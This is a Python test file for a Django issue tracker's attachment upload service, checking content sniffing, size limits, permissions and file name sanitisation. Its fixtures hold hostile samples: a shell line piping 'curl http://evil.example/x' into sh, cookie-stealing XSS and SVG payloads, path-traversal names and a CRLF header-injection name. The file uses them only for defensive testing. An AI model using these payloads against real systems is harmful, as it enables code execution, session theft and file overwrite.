"""add_attachment: the bytes decide the type, the size is capped, the name the
user gave never reaches the filesystem."""

import base64
import re
from pathlib import Path

import pytest
from django.contrib.auth.models import AnonymousUser
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from accounts.tests.factories import UserFactory
from issues import services
from issues.errors import NotFound, PayloadTooLarge
from issues.models import Attachment, EventKind, Issue

# A complete 1x1 PNG.
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
# The start of a 64-bit ELF executable (header fields filled in).
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 200
SHELL = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'></svg>"


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return Path(settings.MEDIA_ROOT)


def stored_files(media) -> list[Path]:
    return [p for p in media.rglob("*") if p.is_file()] if media.exists() else []


def upload(name, content, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def raw_upload(name, content):
    """An upload whose name skipped Django's own basename() (UploadedFile strips
    "a/b" to "b" but keeps backslashes and refuses ".."): the service must not
    rely on whoever built the upload having cleaned the name."""
    file = SimpleUploadedFile("placeholder", content)
    file._name = name
    return file


def nothing_stored(issue, media) -> bool:
    return (
        not Attachment.objects.exists()
        and not issue.events.filter(kind=EventKind.ATTACHMENT_ADDED).exists()
        and stored_files(media) == []
    )


# --- Accepted ----------------------------------------------------------------------


def test_a_png_is_stored_under_a_random_name_with_its_sniffed_type(issue, reporter, media):
    attachment = services.add_attachment(
        actor=reporter, issue=issue, upload=upload("screenshot.png", PNG, "image/png")
    )

    attachment.refresh_from_db()
    assert attachment.content_type == "image/png"
    assert attachment.size == len(PNG) == 70
    assert attachment.original_name == "screenshot.png"
    assert attachment.uploaded_by == reporter
    assert attachment.issue_id == issue.pk
    assert re.fullmatch(rf"attachments/{issue.pk}/[0-9a-f]{{32}}\.png", attachment.file.name)
    on_disk = media / attachment.file.name
    assert on_disk.read_bytes() == PNG
    assert stored_files(media) == [on_disk]


def test_the_type_comes_from_the_content_not_the_name_or_header(issue, reporter):
    attachment = services.add_attachment(
        actor=reporter, issue=issue, upload=upload("notes.txt", PNG, "text/plain")
    )

    assert attachment.content_type == "image/png"
    assert attachment.original_name == "notes.txt"


def test_a_client_header_claiming_an_image_does_not_make_text_an_image(issue, reporter):
    attachment = services.add_attachment(
        actor=reporter, issue=issue, upload=upload("log.png", b"plain log line\n", "image/png")
    )

    assert attachment.content_type == "text/plain"


def test_an_attachment_leaves_an_event_and_bumps_updated_at_not_version(issue, reporter):
    before = Issue.objects.get(pk=issue.pk)

    attachment = services.add_attachment(actor=reporter, issue=issue, upload=upload("a.png", PNG))

    after = Issue.objects.get(pk=issue.pk)
    assert after.version == before.version == 1
    assert after.updated_at > before.updated_at
    event = issue.events.get(kind=EventKind.ATTACHMENT_ADDED)
    assert event.actor == reporter
    assert event.data == {"attachment": attachment.pk, "name": "a.png", "size": 70}


@pytest.mark.parametrize("who", ["maintainer", "admin_user"])
def test_maintainer_and_admin_can_attach_to_any_issue(request, issue, who):
    actor = request.getfixturevalue(who)

    attachment = services.add_attachment(actor=actor, issue=issue, upload=upload("b.png", PNG))

    assert attachment.uploaded_by == actor
    assert issue.attachments.get() == attachment


def test_two_uploads_with_the_same_name_get_distinct_files(issue, reporter, media):
    first = services.add_attachment(actor=reporter, issue=issue, upload=upload("same.png", PNG))
    second = services.add_attachment(actor=reporter, issue=issue, upload=upload("same.png", PNG))

    assert first.file.name != second.file.name
    assert first.original_name == second.original_name == "same.png"
    assert len(stored_files(media)) == 2


def test_a_file_of_exactly_the_limit_is_accepted(issue, reporter, settings):
    settings.ATTACHMENT_MAX_BYTES = len(PNG)

    attachment = services.add_attachment(actor=reporter, issue=issue, upload=upload("c.png", PNG))

    assert attachment.size == settings.ATTACHMENT_MAX_BYTES


# --- Names -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\x.png", "x.png"),
        ("..\\..\\windows\\system32\\evil.png", "evil.png"),
        ("/etc/cron.d/job", "job"),
        ("C:\\Users\\me\\shot.png", "shot.png"),
        ("..", "file"),
        ("../", "file"),
        ("", "file"),
        ("my holiday photo (1).png", "my_holiday_photo_1.png"),
        ("a/..", "file"),
        (".", "file"),
        ('x";\r\nSet-Cookie: a=b.png', "xSet-Cookie_ab.png"),
    ],
)
def test_path_traversal_and_odd_names_are_sanitised(issue, reporter, media, name, expected):
    attachment = services.add_attachment(actor=reporter, issue=issue, upload=raw_upload(name, PNG))

    assert attachment.original_name == expected
    assert "/" not in attachment.original_name
    assert "\\" not in attachment.original_name
    assert attachment.original_name not in (".", "..")
    assert re.fullmatch(
        rf"attachments/{issue.pk}/[0-9a-f]{{32}}(\.[a-z0-9]+)?", attachment.file.name
    )
    on_disk = (media / attachment.file.name).resolve()
    assert on_disk.is_relative_to((media / "attachments" / str(issue.pk)).resolve())
    assert stored_files(media) == [media / attachment.file.name]


@pytest.mark.parametrize(
    ("name", "expected"),
    [("../../etc/passwd", "passwd"), ("..\\x.png", "x.png"), ("sub/dir/y.png", "y.png")],
)
def test_traversal_names_through_a_normal_upload_are_sanitised(
    issue, reporter, media, name, expected
):
    attachment = services.add_attachment(actor=reporter, issue=issue, upload=upload(name, PNG))

    assert attachment.original_name == expected
    assert attachment.file.name.startswith(f"attachments/{issue.pk}/")
    assert stored_files(media) == [media / attachment.file.name]


def test_a_very_long_name_is_shortened(issue, reporter):
    attachment = services.add_attachment(
        actor=reporter, issue=issue, upload=upload("a" * 400 + ".png", PNG)
    )

    assert len(attachment.original_name) <= 200
    assert len(attachment.file.name) <= 255


# --- Refused -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "detected"),
    [
        ("innocent.png", ELF, "application/"),
        ("innocent.png", SHELL, "text/x-shellscript"),
        ("innocent.png", HTML, "text/html"),
        ("logo.png", SVG, "image/svg+xml"),
        ("page.txt", HTML, "text/html"),
    ],
)
def test_content_of_a_type_not_allowed_is_refused_whatever_the_name(
    issue, reporter, media, name, content, detected
):
    with pytest.raises(ValidationError) as excinfo:
        services.add_attachment(
            actor=reporter, issue=issue, upload=upload(name, content, "image/png")
        )

    assert set(excinfo.value.message_dict) == {"file"}
    message = excinfo.value.message_dict["file"][0]
    assert detected in message
    assert "image/png" not in message
    assert nothing_stored(issue, media)


def test_a_file_over_the_limit_is_too_large(issue, reporter, media, settings):
    settings.ATTACHMENT_MAX_BYTES = 64

    with pytest.raises(PayloadTooLarge) as excinfo:
        services.add_attachment(actor=reporter, issue=issue, upload=upload("big.png", PNG))

    assert excinfo.value.limit == 64
    assert "70" in str(excinfo.value)
    assert nothing_stored(issue, media)


def test_an_empty_file_is_refused(issue, reporter, media):
    with pytest.raises(ValidationError) as excinfo:
        services.add_attachment(actor=reporter, issue=issue, upload=upload("empty.png", b""))

    assert set(excinfo.value.message_dict) == {"file"}
    assert nothing_stored(issue, media)


def test_reporter_cannot_attach_to_another_reporters_issue(issue, other_reporter, media):
    with pytest.raises(NotFound):
        services.add_attachment(actor=other_reporter, issue=issue, upload=upload("x.png", PNG))

    assert nothing_stored(issue, media)


def test_inactive_reporter_cannot_attach_to_their_own_issue(issue, reporter, media):
    reporter.is_active = False
    reporter.save(update_fields=["is_active"])

    with pytest.raises(NotFound):
        services.add_attachment(actor=reporter, issue=issue, upload=upload("x.png", PNG))

    assert nothing_stored(issue, media)


def test_inactive_maintainer_cannot_attach(issue, media):
    gone = UserFactory(role="MAINTAINER", is_active=False)

    with pytest.raises(NotFound):
        services.add_attachment(actor=gone, issue=issue, upload=upload("x.png", PNG))

    assert nothing_stored(issue, media)


def test_anonymous_user_cannot_attach(issue, media):
    with pytest.raises(NotFound):
        services.add_attachment(actor=AnonymousUser(), issue=issue, upload=upload("x.png", PNG))

    assert nothing_stored(issue, media)


def test_the_refused_upload_can_still_be_read_by_the_caller(issue, reporter):
    # Sniffing must rewind: a view may retry or log the same upload object.
    file = upload("innocent.png", SHELL)

    with pytest.raises(ValidationError):
        services.add_attachment(actor=reporter, issue=issue, upload=file)

    assert file.read() == SHELL
